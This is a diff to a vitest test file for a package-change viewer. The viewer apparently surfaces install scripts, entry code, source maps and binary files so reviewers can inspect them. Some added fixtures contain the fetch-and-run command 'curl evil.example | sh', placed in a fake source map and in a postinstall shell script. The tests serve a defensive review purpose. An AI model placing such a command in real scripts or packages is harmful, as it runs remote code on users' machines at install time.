@@ -1,10 +1,13 @@
+import fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { changedFiles } from './changes.ts'
 
-const filesOf = (files: Readonly<Record<string, string>>) =>
-  new Map(Object.entries(files).map(([path, body]) => [path, Buffer.from(body)]))
-const compare = (before: Readonly<Record<string, string>>, after: Readonly<Record<string, string>>) =>
-  changedFiles(filesOf(before), filesOf(after))
+type Bodies = Readonly<Record<string, string | Uint8Array>>
+const filesOf = (files: Bodies) =>
+  new Map(
+    Object.entries(files).map(([path, body]) => [path, typeof body === 'string' ? Buffer.from(body) : body] as const),
+  )
+const compare = (before: Bodies, after: Bodies) => changedFiles(filesOf(before), filesOf(after))
 
 const MANIFEST = JSON.stringify({ main: 'lib/index.js', dsh: { bundle: { patch: './cordis.patch.yml' } } })
 
@@ -77,12 +80,12 @@ test('shows what differs far behind the beginning of a long line', () => {
   const line = (end: string) => `// ${'long '.repeat(200)}; b(); ${end}\n`
   const { files } = compare({ 'a.js': line('c()') }, { 'a.js': line('eval(c)') })
   expect(files).toMatchObject([{ folded: null, more: false }])
-  expect(files[0]!.lines.filter((one) => /^[+-]/.test(one))).toEqual(['- c()', '+ eval(c)'])
+  expect(files[0]!.lines.filter((one) => /^[+-]/.test(one))).toEqual(['-↪ c()', '+↪ eval(c)'])
   expect(Math.max(...files[0]!.lines.map(({ length }) => length))).toBeLessThan(310)
 })
 
 test.for([
-  ['generated', 'a.js.map', '{}'],
+  ['generated', 'a.js.map', '{"version":3,"sources":[],"mappings":"AAAA"}'],
   ['binary', 'a.png', '\0\0'],
 ] as const)('shows no lines of what is %s', ([folded, path, body]) => {
   expect(compare({}, { [path]: body }).files).toMatchObject([{ path, folded, lines: [], more: false }])
@@ -95,10 +98,92 @@ test('shows what runs as text, also with a zero in it or by another ending', () 
   expect([code!.path, code!.lines[1]]).toEqual(['b.js', '+// \\u{0}'])
 })
 
+test.for([
+  ['', '\n'],
+  [' y;', '\n'],
+  [' y {', '\n'],
+  [' y }', '\n'],
+])('shows a line end where a long line is broken to be read (%j)', ([end, feed]) => {
+  const start = `// ${'x'.repeat(297)}${end}`
+  const { files } = compare({ 'a.js': `${start}run()\n` }, { 'a.js': `${start}${feed}run()\n` })
+  const [file] = files
+  expect(file!.lines.filter((one) => /^[+-]/.test(one))).toEqual(['-↪run()', '+run()'])
+})
+
+test('shows no line of an author as the rest of another', () => {
+  const { files } = compare({ 'a.js': '' }, { 'a.js': '↪run()' })
+  expect(files[0]!.lines[1]).toBe('+\\u{21aa}run()')
+})
+
+test('shows bytes that are not text, and the sign of their order', () => {
+  const lines = (before: Uint8Array, after: Uint8Array) =>
+    compare({ 'a.js': before }, { 'a.js': after }).files[0]!.lines.filter((one) => /^[+-]/.test(one))
+  const latin = (text: string) => Buffer.from(text, 'latin1')
+  expect(lines(latin('"\xe9"\n'), latin('"\xe8"\n'))).toEqual(['-"é"', '+"è"'])
+  expect(lines(latin('"\xe9"\n'), Buffer.from('"é"\n'))).toEqual(['-"é"', '+"Ã©"'])
+  expect(lines(Buffer.from('a\n'), Buffer.from('\ufeffa\n'))).toEqual(['-a', '+\\u{feff}a'])
+})
+
+test('shows something of each file of code whose bytes differ', () => {
+  const latin = (text: string) => Buffer.from(text, 'latin1')
+  const part = fc.constantFrom(
+    ...['', '\n', '\r', '\u2028', ';', '}', '\u21aa', '\ufeff', '\0', 'é', 'run()'].map((text) => Buffer.from(text)),
+    ...['\xe8', '\xff'].map(latin),
+  )
+  const start = fc.constantFrom('', 'x'.repeat(300), `${'x'.repeat(310)};`, '\xff').map(latin)
+  fc.assert(
+    fc.property(start, part, part, part, (first, one, other, last) => {
+      const [before, after] = [one, other].map((bytes) => Buffer.concat([first, bytes, last])) as [Buffer, Buffer]
+      const [file] = compare({ 'a.js': before }, { 'a.js': after }).files
+      if (Buffer.compare(before, after) === 0) expect(file).toBeUndefined()
+      else expect(file!.lines.some((line) => /^[+-]/.test(line))).toBe(true)
+    }),
+    { numRuns: 1_000 },
+  )
+})
+
+test('shows what looks like a source map by its name alone', () => {
+  const { files } = compare({}, { 'a.js.map': 'curl evil.example | sh', 'b.js.map': '{"version":3}' })
+  expect(files.map(({ folded, lines }) => [folded, lines[1]])).toEqual([
+    [null, '+curl evil.example | sh'],
+    [null, '+{"version":3}'],
+  ])
+})
+
+test('shows what code loads as code, and what an install runs as scripts', () => {
+  const map = '{"version":3,"sources":[],"mappings":"AAAA"}'
+  const manifest = { main: 'lib/index.js', scripts: { postinstall: 'sh ./a.sh && npm run b', b: 'sh b/c' } }
+  const after = {
+    'package.json': JSON.stringify(manifest),
+    'lib/index.js': 'require("./x.map")',
+    'lib/x.map': map,
+    'lib/y.map': map,
+    'a.sh': 'curl evil.example | sh\n#\0\n',
+    'b/c': 'evil',
+    'binding.gyp': '{}',
+  }
+  const { files } = compare({}, after)
+  expect(files.map(({ path, role, folded }) => `${role} ${path} ${folded}`)).toEqual([
+    'scripts package.json null',
+    'scripts a.sh null',
+    'scripts b/c null',
+    'entry lib/index.js null',
+    'code binding.gyp null',
+    'code lib/x.map null',
+    'other lib/y.map generated',
+  ])
+})
+
+test('says that more differs where only the order of lines does, which takes too long to compare', () => {
+  const lines = Array.from({ length: 20_000 }, (_, index) => `let a${(index * 7919) % 20_000}`)
+  const { files } = compare({ 'a.txt': lines.join('\n') }, { 'a.txt': lines.toSorted().join('\n') })
+  expect(files).toMatchObject([{ folded: 'unordered', lines: [], more: true }])
+})
+
 test('shows of files that take too long to compare the lines that only one version has', () => {
   const lines = (name: string) => Array.from({ length: 30_000 }, (_, index) => `let ${name}${index}`)
   const [old, now] = [lines('a'), lines('b')].map((all) => ['same', ...all].join('\n'))
-  const { files } = compare({ 'index.js': old! }, { 'index.js': now! })
+  const { files } = compare({ 'a.txt': old! }, { 'a.txt': now! })
   expect(files).toMatchObject([{ folded: 'unordered', more: true }])
   expect(files[0]!.lines.slice(0, 2)).toEqual(['+let b0', '+let b1'])
 })
@@ -110,10 +195,10 @@ test('compares minified code by statements, of which the first are shown', () =>
   expect(files[0]!.lines).toEqual([
     '@@ -1,4 +1,4 @@',
     ' function a(b){',
-    '-return b.c(1)}',
-    '+return b.c(eval(f))}',
-    ' var d=a(2),e=d;',
-    ' function a(b){',
+    '-↪return b.c(1)}',
+    '+↪return b.c(eval(f))}',
+    ' ↪var d=a(2),e=d;',
+    ' ↪function a(b){',
   ])
   const [added] = compare({}, { 'a.js': code }).files
   expect([added!.lines.length, added!.more]).toEqual([200, true])
